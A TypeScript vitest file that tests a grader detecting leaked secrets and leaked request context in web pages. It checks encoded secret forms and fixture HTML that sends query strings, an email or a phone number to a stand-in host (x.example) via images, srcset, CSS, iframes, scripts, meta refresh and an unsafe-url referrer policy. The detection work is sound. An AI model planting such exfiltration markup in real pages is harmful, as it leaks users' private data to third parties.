import { createHash } from 'node:crypto'
import { describe, expect, test } from 'vitest'
import { describeReceived } from '@/lib/domain/certification/describe-exchange'
import { gradeContextLeak, gradeSecretLeak, secretForms } from '@/lib/domain/certification/find-leaks'
import { answerWith, answeredSecret as secret, answeredTarget as target } from '@/test/zoo/answer-with'

describe('the secret is found in every form that a page or script has it', () => {
  const bytes = Buffer.from(secret, 'hex')
  const key = createHash('sha256').update(secret).digest()
  test.each([
    ['as it is', secret],
    ['in upper case', secret.toUpperCase()],
    ['base64 of its text', Buffer.from(secret).toString('base64')],
    ['hex of its text', Buffer.from(secret).toString('hex')],
    ['base64 of what its hex means', bytes.toString('base64')],
    ['base64url of what its hex means', bytes.toString('base64url')],
    ['the key of a token', key.toString('base64')],
  ])('%s', async (_, form) => {
    const page = await answerWith(`<p>${form}</p>`)
    expect(gradeSecretLeak([page], [], target)).toMatchObject({ outcome: 'failed' })
    const script = { url: 'https://widget.example.com/app.js?api_key=1', text: `const k = "${form}"` }
    const graded = gradeSecretLeak([await answerWith('')], [script], target)
    expect(graded).toMatchObject({ outcome: 'failed' })
    expect(graded.detail).not.toContain('api_key')
    expect(describeReceived(page.exchange, secretForms(secret))).not.toContain(form)
  })

  test('in a header, and as HTML and JSON write a secret with quotes', async () => {
    const odd = { ...target, secrets: [{ label: 'active' as const, secret: 'a "secret" & more <of> it' }] }
    const cookie = await answerWith('', {
      'set-cookie': [`k=${encodeURIComponent('a "secret" & more <of> it')}`],
    })
    const html = await answerWith('a &quot;secret&quot; &amp; more &lt;of&gt; it')
    const json = await answerWith(String.raw`{"k":"a \"secret\" & more <of> it"}`)
    for (const result of [cookie, html, json])
      expect(gradeSecretLeak([result], [], odd)).toMatchObject({ outcome: 'failed' })
  })

  test('and in nothing that only looks like one', async () => {
    const page = await answerWith(`<p>${secret.slice(0, -1)}</p>`)
    expect(gradeSecretLeak([page], [], target)).toMatchObject({ outcome: 'passed' })
  })
})

describe('what a third party is told', () => {
  const leaking = async (html: (query: string) => string, headers = {}) => {
    const { exchange } = await answerWith('')
    const query = exchange.request.url.split('?')[1] ?? ''
    return gradeContextLeak([await answerWith(html(query), headers)], target).outcome
  }

  test.each([
    ['an image with the whole query', (query: string) => `<img alt="" src="https://x.example/i?${query}">`],
    [
      'the same with escaped ampersands',
      (query: string) => `<img src='https://x.example/i?${query.replaceAll('&', '&amp;')}'>`,
    ],
    ['a style', (query: string) => `<style>a{background:url(https://x.example/i?${query})}</style>`],
    ['a source set', (query: string) => `<img srcset="/a.png 1x, https://x.example/i?${query} 2x">`],
    ['a frame with an email', () => '<iframe src="//x.example/?mail=jordan.sample%40example.com"></iframe>'],
    ['a script with a phone', () => '<script src=https://x.example/15550100.js></script>'],
    [
      'a refresh',
      (query: string) => `<meta http-equiv="refresh" content="0; url=https://x.example/?${query}">`,
    ],
  ])('%s fails', async (_, html) => {
    expect(await leaking(html)).toBe('failed')
  })

  test.each([
    ['a font', () => '<link rel="stylesheet" href="https://fonts.example/css?family=Inter">'],
    ['an image of its own', (query: string) => `<img src="/pixel?${query}">`],
    ['an image of the host', (query: string) => `<img src="https://crm.example.com/pixel?${query}">`],
    ['a link that somebody may click', (query: string) => `<a href="https://x.example/?${query}">more</a>`],
    ['a page without resources', () => '<p>Jordan Sample, jordan.sample@example.com</p>'],
  ])('%s does not', async (_, html) => {
    expect(await leaking(html)).toBe('passed')
  })

  test('a referrer policy that tells the whole address fails where there is somebody to tell it', async () => {
    const font = () => '<link rel="stylesheet" href="https://fonts.example/css">'
    expect(await leaking(font, { 'referrer-policy': ['unsafe-url'] })).toBe('failed')
    expect(await leaking(() => `<meta name="referrer" content="unsafe-url">${font()}`)).toBe('failed')
    expect(await leaking(font, { 'referrer-policy': ['no-referrer'] })).toBe('passed')
    expect(await leaking(() => '<p>Nobody.</p>', { 'referrer-policy': ['unsafe-url'] })).toBe('passed')
  })
})
